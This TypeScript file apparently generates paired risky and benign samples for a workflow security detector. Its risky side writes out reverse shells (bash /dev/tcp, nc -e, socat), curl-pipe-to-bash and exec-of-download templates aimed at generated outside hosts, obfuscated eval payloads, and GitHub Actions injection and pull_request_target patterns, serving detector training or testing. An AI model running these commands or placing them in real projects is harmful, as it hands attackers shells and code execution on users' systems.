// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the expressions belong to the packages, not to this program
import type { WpkHandler, WpkTrigger } from '../../../schemas/wpk.ts'
import {
  ALPHANUMERIC,
  action,
  type Family,
  type Fragment,
  node,
  outside,
  pairOf,
  python,
  shell,
  shellPair,
} from './fragments.ts'

/** Families about whose code runs: downloads, strangers, peers, hidden texts. */
export const EXECUTION_FAMILIES: readonly Family[] = [
  shellPair('pipe-to-shell', (random) => {
    const url = `https://${outside(random)}/install.sh`
    return [
      [`curl -fsSL ${url} | bash`, `curl -fsSL ${url} | tee install.log`],
      [`wget -qO- ${url} | sudo sh`, `wget -qO- ${url} | wc -l`],
      [`bash <(curl -s ${url})`, `diff <(curl -s ${url}) install.sh`],
      [`sh -c "$(curl -fsSL ${url})"`, `version="$(curl -fsSL ${url})"`],
      [`eval "$(wget -qO- ${url})"`, 'eval "$(ssh-agent -s)"'],
    ]
  }),
  shellPair('save-and-run', (random) => {
    const url = `https://${outside(random)}/tool`
    return [
      [`curl -sLo tool ${url}\nchmod +x tool\n./tool --all`, `curl -sLo tool.json ${url}\njq .version tool.json`],
      [`wget ${url}.sh\nbash tool.sh`, `wget ${url}.csv\nwc -l tool.csv`],
    ]
  }),
  {
    name: 'python-runs-download',
    pair: (random) => {
      const url = `http://${outside(random)}/stage`
      return python(
        `import requests\nbody = requests.get("${url}").text\nexec(body)`,
        `import requests\nbody = requests.get("${url}", timeout=5).json()\nprint(body["version"])`,
      )
    },
  },
  shellPair('reverse-shell', (random) => {
    const host = outside(random)
    return [
      [
        `bash -i >& /dev/tcp/${host}/4444 0>&1`,
        `timeout 3 bash -c 'until echo > /dev/tcp/db.shop.svc/5432; do sleep 1; done'`,
      ],
      [`nc -e /bin/sh ${host} 9001`, 'nc -z db.shop.svc 5432'],
      [
        `rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc ${host} 9001 > /tmp/f`,
        'mkfifo /tmp/f; gzip < /tmp/f > out.gz & pg_restore -l dump > /tmp/f',
      ],
      [`socat TCP:${host}:443 EXEC:/bin/bash`, 'socat -u FILE:report.csv TCP:sink.shop.svc:9000'],
    ]
  }),
  {
    name: 'python-reverse-shell',
    pair: (random) =>
      python(
        `import socket, os, pty\ns = socket.socket()\ns.connect(("${outside(random)}", 4242))\nos.dup2(s.fileno(), 0)\npty.spawn("/bin/sh")`,
        'import socket\ns = socket.socket()\ns.settimeout(2)\ns.connect(("db.shop.svc", 5432))\nprint("open")',
      ),
  },
  shellPair('event-text-in-command', (random) => {
    const field = random.pick(['issue.title', 'pull_request.body', 'comment.body', 'head_commit.message'])
    return [
      [`echo "\${{ github.event.${field} }}" > title.txt`, 'echo "${{ github.event.issue.number }}" > number.txt'],
      ['git checkout ${{ github.head_ref }}', 'git checkout ${{ github.sha }}'],
      ['notify "${event.message}"', 'notify "$MESSAGE"'],
      ['./handle {{ event.body.name }}', './handle --id {{ event.id }}'],
    ]
  }),
  {
    name: 'submission-runs',
    pair: (random) => {
      const build = shell(random.pick(['npm install && npm test', 'make test', 'pip install -r requirements.txt']))
      const webhook = (event: string): WpkTrigger => ({ type: 'webhook', config: { source: 'github', event } })
      const checkout = (ref: string): WpkHandler => action('actions/checkout@v4', { with: { ref } })
      const trusted = webhook(random.pick(['pull_request_target', 'workflow_run']))
      const submitted = checkout('${{ github.event.pull_request.head.sha }}')
      // The trigger with trusted code, the submitted code without the trigger's rights, or a step that only labels.
      const benign = random.pick<Fragment>([
        { triggers: [trusted], handlers: [checkout('${{ github.sha }}'), build] },
        { triggers: [webhook('pull_request')], handlers: [submitted, build] },
        { triggers: [trusted], handlers: [action('actions/labeler@v5')] },
      ])
      return { risky: { triggers: [trusted], handlers: [submitted, build] }, benign }
    },
  },
  {
    name: 'shared-runner',
    pair: (random) => {
      const event = random.pick(['pull_request_target', 'issue_comment'])
      const triggers: WpkTrigger[] = [{ type: 'webhook', config: { source: 'github', event } }]
      const command = random.pick(['make check', 'npm test', './verify.sh'])
      const on = (runner: string): Fragment => ({ triggers, handlers: [shell(command, { runner })] })
      return { risky: on('self-hosted'), benign: on('ubuntu-latest') }
    },
  },
  shellPair('obfuscated-shell', (random) => {
    const blob = Buffer.from(`echo ${random.text(ALPHANUMERIC, 130)}`).toString('base64')
    return [
      [`echo ${blob} | base64 -d | sh`, 'echo "$KUBECONFIG_B64" | base64 -d > kubeconfig'],
      [`eval "$(printf '${'\\x65\\x63\\x68\\x6f'.repeat(4)}')"`, "printf 'name\\tvalue\\n' > table.tsv"],
      [`c$@at\${IFS}/tmp/x$(echo ${blob}|base64 --decode|bash)`, 'cat /tmp/x'],
    ]
  }),
  {
    name: 'obfuscated-code',
    pair: (random) => {
      const blob = Buffer.from(random.text(ALPHANUMERIC, 150)).toString('base64')
      const blank = ' '.repeat(150)
      return random.pick([
        () =>
          python(
            `import base64\nexec(base64.b64decode("${blob}"))`,
            'import base64\nopen("logo.png", "wb").write(base64.b64decode(image))',
          ),
        () => node(`eval(atob("${blob}"))`, 'const name = JSON.parse(text).name\nconsole.log(name)'),
        () =>
          node(
            `const _0x1a2b = _0x3c4d; eval(String.fromCharCode(${Array.from({ length: 35 }, () => 100 + Math.floor(random.next() * 20)).join(', ')}))`,
            'const total = [104, 101, 108].reduce((a, b) => a + b, 0)\nconsole.log(total)',
          ),
        () => python(`import os\nx = 1${blank}; exec(bytes.fromhex(h).decode())`, 'import os\nx = 1\nprint(x)'),
        () =>
          python(
            'import builtins\n_____ = getattr(builtins, n)\n_____(code)\nexec(compile(code, "m", "exec"))',
            'import json\nvalue = getattr(settings, "name")\nprint(json.dumps(value))',
          ),
      ])()
    },
  },
  {
    name: 'detached-process',
    pair: () =>
      node(
        'const { spawn } = require("child_process")\nspawn("node", ["svc.js"], { detached: true, stdio: "ignore" }).unref()',
        'const { spawn } = require("child_process")\nspawn("node", ["svc.js"], { stdio: "inherit" })',
      ),
  },
  {
    name: 'unsafe-switch',
    pair: () =>
      pairOf(
        shell('echo Hello', { env: { ACTIONS_ALLOW_UNSECURE_COMMANDS: true } }),
        shell('echo Hello', { env: { NODE_ENV: 'test' } }),
      ),
  },
]
